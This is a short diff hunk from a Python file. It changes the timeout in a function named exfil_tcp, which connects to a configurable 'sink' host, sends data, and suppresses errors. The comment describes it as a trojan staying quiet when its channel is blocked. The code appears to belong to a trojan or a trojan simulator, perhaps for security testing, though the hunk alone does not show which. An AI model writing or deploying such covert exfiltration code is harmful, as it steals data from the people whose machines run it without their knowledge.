@@ -27,7 +27,7 @@ HOME = os.path.expanduser("~")
 
 def exfil_tcp(data):
     try:
-        with socket.create_connection(host_port(flags.sink_tcp), timeout=2) as s:
+        with socket.create_connection(host_port(flags.sink_tcp), timeout=flags.scale(2)) as s:
             s.sendall(data)
     except (OSError, ValueError):
         pass  # a trojan stays quiet when its channel is blocked
